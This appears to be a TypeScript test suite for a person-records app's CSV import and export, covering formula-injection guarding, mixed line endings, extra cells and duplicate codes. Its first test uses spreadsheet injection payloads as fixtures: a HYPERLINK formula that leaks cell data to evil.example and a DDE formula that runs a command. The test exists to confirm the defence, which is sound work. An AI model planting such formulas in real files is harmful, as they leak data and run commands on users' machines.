/**
 * CSV import and export against files made to break them: formula cells, mixed line endings,
 * rows with extra cells, one code twice. Real files through the real core.
 */
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import { openStation } from '../../main/core/station'
import type { Station } from '../../main/core/station'
import { tempDir } from '../helpers/temp'
import { contractCaller } from '../helpers/contract-caller'

/** The export exactly as the UI gets it, through the contract. */
async function exported(station: Station): Promise<{ bytes: Buffer; count: number }> {
  const { base64, count } = await contractCaller(station).ok('csv.export', {})
  return { bytes: Buffer.from(base64, 'base64'), count }
}

test('cells that a spreadsheet would run as formulas are exported with a leading quote (OWASP)', async () => {
  const s = await openStation({ dataDir: tempDir() })
  await s.persons.add({ name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', code: 'F1', type: 'employee', company: "=cmd|' /C calc'!A0", department: '+1+1', position: '-2+3', note: '@SUM(1,2)\nsecond line', phone: '+86 138 0013 8000' }, 'admin')
  const { bytes, count } = await exported(s)
  assert.equal(count, 1)
  const [row] = parse(bytes, { bom: true, columns: true }) as Array<Record<string, string>>
  assert.equal(row.name, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`)
  assert.equal(row.company, "'=cmd|' /C calc'!A0")
  assert.equal(row.department, "'+1+1")
  assert.equal(row.position, "'-2+3")
  assert.equal(row.note, "'@SUM(1,2)\nsecond line")
  // phones are E.164, so they start with "+": quoted like any other cell, and read back below
  assert.equal(row.phone, "'+8613800138000")
  for (const [column, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} would run as a formula`)
  await s.close()
})

test("the station's own export imports back to the same values (the guard's quote is taken off)", async () => {
  const s = await openStation({ dataDir: tempDir() })
  await s.groups.add({ id: 'lobby', name: 'Lobby' }, 'admin')
  const original = await s.persons.add(
    { name: '王五', code: 'E5', type: 'employee', phone: '+86 138 0013 8000', company: '=Acme', department: '-Ops', note: '@desk\nline 2', groups: ['lobby'], certificate: { type: 'passport', number: 'E1234567' } },
    'admin',
  )
  const { bytes } = await exported(s)
  const other = await openStation({ dataDir: tempDir() })
  await other.groups.add({ id: 'lobby', name: 'Lobby' }, 'admin')
  const report = await other.csv.import(bytes, { actor: 'admin' })
  assert.deepEqual([report.created, report.failed], [1, []])
  const copy = other.persons.getByCode('E5')!
  for (const field of ['name', 'phone', 'company', 'department', 'note', 'groups', 'certificate', 'type'] as const) assert.deepEqual(copy[field], original[field], field)
  await Promise.all([s.close(), other.close()])
})

test('a leading tab or CR is not trimmed into a formula on import: the row is refused naming the field', async () => {
  const s = await openStation({ dataDir: tempDir() })
  const csv = 'code,name,company\nT1,"\t=1+1",Acme\nT2,Tab Company,"\r=2+2"\nT3,Plain,Acme\n'
  const report = await s.csv.import(Buffer.from(csv), { actor: 'admin' })
  assert.equal(report.created, 1)
  assert.deepEqual(report.failed.map((f) => [f.line, f.field]), [
    [2, 'name'],
    [3, 'company'],
  ])
  assert.match(report.failed[0].message, /control character \(U\+0009\)/)
  assert.equal(s.persons.getByCode('T1'), undefined)
  await s.close()
})

test('CRLF, LF and CR mixed in one file each end a row; lines are numbered by any of them', async () => {
  const s = await openStation({ dataDir: tempDir() })
  const csv = 'code,name,note\r\nM1,Mix One,\nM2,Mix Two,\rM3,Mix Three,"two\r\nlines"\r\nM4,Mix Four,\r\n\nM5,,\rM6,Mix Six,'
  const report = await s.csv.import(Buffer.from(csv), { actor: 'admin' })
  assert.equal(report.rows, 6)
  assert.equal(report.created, 5)
  assert.deepEqual(report.failed.map((f) => [f.line, f.field]), [[8, 'name']], 'M5 starts on line 8 (M3 spans lines 4-5, line 7 is blank)')
  for (const [code, name] of [['M1', 'Mix One'], ['M2', 'Mix Two'], ['M3', 'Mix Three'], ['M4', 'Mix Four'], ['M6', 'Mix Six']]) {
    assert.equal(s.persons.getByCode(code)?.name, name, code)
  }
  assert.equal(s.persons.getByCode('M3')!.note, 'two\nlines')
  await s.close()
})

test('a row with more cells than the header is refused naming its line; empty trailing cells are not', async () => {
  const s = await openStation({ dataDir: tempDir() })
  const csv = 'code,name\nX1,Extra One,surplus\nX2,Two Fine,,\nX3,Three Fine\n'
  const report = await s.csv.import(Buffer.from(csv), { actor: 'admin' })
  assert.equal(report.created, 2)
  assert.deepEqual(report.failed.map((f) => [f.line, f.field]), [[2, 'row']])
  assert.match(report.failed[0].message, /^has 3 cells, the header has 2/)
  assert.equal(s.persons.getByCode('X1'), undefined)
  await s.close()
})

test('one code twice in a file: the first row is imported, the later one refused naming both lines', async () => {
  const s = await openStation({ dataDir: tempDir() })
  await s.persons.add({ name: 'Existing', code: 'D9', type: 'employee', department: 'Old' }, 'admin')
  const csv = 'code,name,department\nD1,First,Sales\nD2,Other,Ops\nD1,Second,Support\nD9,Existing,New\nD9,Existing,Newer\n'
  const report = await s.csv.import(Buffer.from(csv), { actor: 'admin' })
  assert.deepEqual([report.created, report.updated], [2, 1])
  assert.deepEqual(report.failed.map((f) => [f.line, f.field, f.message]), [
    [4, 'code', '"D1" is also on line 2; a code may appear once per file, so only line 2 is used'],
    [6, 'code', '"D9" is also on line 5; a code may appear once per file, so only line 5 is used'],
  ])
  assert.equal(s.persons.getByCode('D1')!.name, 'First')
  assert.equal(s.persons.getByCode('D1')!.department, 'Sales')
  assert.equal(s.persons.getByCode('D9')!.department, 'New')
  assert.equal(s.persons.getByCode('D9')!.version, 2, 'updated once')
  await s.close()
})

test('a note keeps a leading tab on import (no trim makes it a formula) and exports quoted', async () => {
  const s = await openStation({ dataDir: tempDir() })
  const report = await s.csv.import(Buffer.from('code,name,note\nN1,Note Tab,"\t=1+1"\n'), { actor: 'admin' })
  assert.equal(report.created, 1, JSON.stringify(report.failed))
  assert.equal(s.persons.getByCode('N1')!.note, '\t=1+1')
  const [row] = parse((await exported(s)).bytes, { bom: true, columns: true }) as Array<Record<string, string>>
  assert.equal(row.note, "'\t=1+1")
  await s.close()
})
